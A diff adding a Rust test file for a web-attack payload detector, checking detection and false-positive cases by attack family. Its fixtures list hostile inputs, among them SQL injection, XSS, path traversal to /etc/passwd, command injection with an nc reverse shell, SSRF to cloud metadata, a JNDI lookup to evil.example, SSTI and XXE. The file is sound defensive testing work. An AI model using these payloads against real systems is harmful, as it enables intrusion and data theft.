@@ -1,0 +1,219 @@
+//! Payload detectors through the public API: positives and hard negatives per family.
+
+mod common;
+
+use common::*;
+use sentrace_core::TenantId;
+use sentrace_detect::{Detector, Family};
+
+fn families(d: &Detector, v: &str) -> Vec<Family> {
+    let t = TenantId::new("t").unwrap();
+    let mut f: Vec<Family> = d
+        .scan_value(&t, v)
+        .into_iter()
+        .map(|(r, _)| r.family)
+        .collect();
+    f.sort();
+    f.dedup();
+    f
+}
+
+#[test]
+fn positives_per_family() {
+    let d = Detector::with_default_rules().unwrap();
+    let cases: &[(Family, &[&str])] = &[
+        (
+            Family::Sqli,
+            &[
+                "1' or '1'='1",
+                "1 UNION SELECT null,version()--",
+                "'; DROP TABLE users--",
+            ],
+        ),
+        (
+            Family::Xss,
+            &[
+                "<script>alert(1)</script>",
+                "\" onmouseover=\"alert(1)",
+                "<svg/onload=confirm`1`>",
+            ],
+        ),
+        (
+            Family::PathTraversal,
+            &[
+                "../../../etc/passwd",
+                "..%2f..%2f..%2fetc%2fshadow",
+                "php://filter/convert.base64-encode/resource=index",
+                "C:\\Windows\\win.ini",
+            ],
+        ),
+        (
+            Family::Cmdi,
+            &[
+                "; cat /etc/passwd",
+                "$(whoami)",
+                "`id`",
+                "127.0.0.1 && c'a't /etc/hosts",
+                "|nc -e /bin/sh 10.0.0.1 4444",
+            ],
+        ),
+        (
+            Family::Ssrf,
+            &[
+                "http://169.254.169.254/latest/meta-data/",
+                "http://[::1]:8080/admin",
+                "gopher://127.0.0.1:6379/_",
+                "http://0x7f000001/",
+            ],
+        ),
+        (
+            Family::Jndi,
+            &[
+                "${jndi:ldap://evil.example/a}",
+                "${${lower:j}ndi:rmi://x/y}",
+                "java.lang.Runtime",
+            ],
+        ),
+        (
+            Family::Ssti,
+            &[
+                "{{7*7}}",
+                "{{config.__class__.__init__.__globals__}}",
+                "${7*7}",
+                "<%= system('id') %>",
+                "{% import os %}",
+            ],
+        ),
+        (
+            Family::Xxe,
+            &[
+                "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
+            ],
+        ),
+        (
+            Family::Nosql,
+            &[
+                "{\"$ne\": null}",
+                "user[$ne]=x",
+                "';return this.password == 'a",
+            ],
+        ),
+    ];
+    for (fam, values) in cases {
+        for v in *values {
+            assert!(
+                families(&d, v).contains(fam),
+                "{fam} missed {v:?}: got {:?}",
+                families(&d, v)
+            );
+        }
+    }
+}
+
+#[test]
+fn hard_negatives() {
+    let d = Detector::with_default_rules().unwrap();
+    for v in [
+        "O'Brien",
+        "Where's the nearest store? Open 9-5",
+        "select a color from the menu",
+        "price < 50 & rating > 4",
+        "https://www.example.com/products?id=42&ref=home",
+        "Tom & Jerry; cartoon",
+        "{\"name\":\"Alice\",\"age\":31,\"tags\":[\"a\",\"b\"]}",
+        "# Heading\n\n* item one\n* item two\n\n`code` and **bold**",
+        "$19.99",
+        "I'll be there at 5 o'clock; call me",
+        "C# and F# developers",
+        "1/2 cup sugar, 3/4 cup flour",
+        "rock & roll | jazz",
+        "user@example.com",
+        "see section 3.2.1 of the docs",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
+        "2024-01-15T10:30:00Z",
+        "<p>Hello <b>world</b></p>",
+        "and/or",
+        "50% off -- today only",
+        "ls the list",
+        "Don't {forget} the [brackets]",
+        "a=b; c=d",
+        "version 10.0.0.1 is out",
+    ] {
+        assert!(
+            families(&d, v).is_empty(),
+            "false positive on {v:?}: {:?}",
+            d.scan_value(&TenantId::new("t").unwrap(), v)
+                .iter()
+                .map(|(r, why)| (r.id.clone(), *why))
+                .collect::<Vec<_>>()
+        );
+    }
+}
+
+#[test]
+fn inspect_reports_span_ids_and_minimized_evidence() {
+    let d = Detector::with_default_rules().unwrap();
+    let t = TenantId::new("acme").unwrap();
+    let rs = vec![batch(
+        "shop",
+        vec![
+            server(
+                7,
+                1,
+                vec![
+                    kv("url.path", "/search"),
+                    kv("url.query", "q=1234'%20OR%20'1'%3D'1&secret=hunter2"),
+                    kv("client.address", "203.0.113.9"),
+                    kv("http.request.method", "GET"),
+                ],
+            ),
+            server(
+                8,
+                2,
+                vec![
+                    kv("url.path", "/search"),
+                    kv("url.query", "q=shoes"),
+                    kv("http.request.method", "GET"),
+                ],
+            ),
+        ],
+    )];
+    let findings = d.inspect(&t, &rs, 1);
+    assert!(!findings.is_empty());
+    assert!(
+        findings
+            .iter()
+            .all(|f| f.evidences[0].span_id.unwrap().to_hex() == "0101010101010101")
+    );
+    let f = findings
+        .iter()
+        .find(|f| f.rule_id == "sqli-tokenizer")
+        .expect("tokenizer finding");
+    assert_eq!(f.family, Family::Sqli);
+    assert_eq!(f.subject.client_address.as_deref(), Some("203.0.113.9"));
+    assert_eq!(f.evidences[0].attribute, "url.query");
+    assert_eq!(f.evidences[0].snippet, "0000' OR '0'='0");
+    let ocsf = serde_json::to_string(&f.to_ocsf()).unwrap();
+    assert!(
+        !ocsf.contains("1234") && !ocsf.contains("hunter2"),
+        "{ocsf}"
+    );
+    assert!(ocsf.contains("07070707070707070707070707070707"));
+}
+
+#[test]
+fn client_spans_are_not_payload_inputs() {
+    let d = Detector::with_default_rules().unwrap();
+    let t = TenantId::new("acme").unwrap();
+    let rs = vec![batch(
+        "shop",
+        vec![common::span(
+            1,
+            1,
+            None,
+            sentrace_core::proto::trace::v1::span::SpanKind::Client,
+            vec![kv("url.query", "q=<script>alert(1)</script>")],
+        )],
+    )];
+    assert!(d.inspect(&t, &rs, 1).is_empty());
+}
